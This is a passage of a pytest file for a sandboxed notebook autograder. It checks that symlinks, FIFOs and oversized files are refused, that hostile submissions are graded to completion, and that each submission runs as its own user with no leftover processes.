        assert 0 < found[folder] <= boundary.TMPFS_BYTES, found
    assert points(graded, "tmpfs") == FULL, graded["results"]["tmpfs"]


def test_the_folder_walk_refuses_what_is_not_a_notebook_file_beside_real_work(graded):
    refused = [r for r in graded["results"].values() if r["status"] == "refused"]
    assert len(refused) == len(graded["refused"]), [r["student"] for r in refused]
    assert all(not r["exercises"] and r["error"] for r in refused)
    # a link to the master, or to another submission, is not graded as one: it would earn full marks
    assert "link-master" in graded["results"] and "link-alice" in graded["results"]
    assert all(
        r["status"] == "refused"
        for s, r in graded["results"].items()
        if s.startswith(("link-", "fifo", "big"))
    )
    work = {p.name for p in (graded["out"] / ".work").iterdir()}
    assert not work & {r["student"] for r in refused}, "nothing is prepared for a refused file"
    assert work == {"alice", "bob", *graded["hostile"]}


def test_every_hostile_submission_was_graded_to_its_end(graded):
    assert set(graded["hostile"]) <= set(graded["results"])
    assert not [s for s in graded["hostile"] if graded["results"][s]["status"] in ("error", "time limit")]


@needs_root
def test_each_submission_ran_as_a_user_of_its_own_and_none_left_a_process(graded):
    import psutil

    graded_ones = [s for s, r in graded["results"].items() if r["status"] != "refused"]
    users = {uid(graded, s) for s in graded_ones}
    assert None not in users and len(users) == len(graded_ones), users
    left = [p.info for p in psutil.process_iter(["pid", "uids", "cmdline"]) if p.info["uids"].real in users]
    assert left == [], left
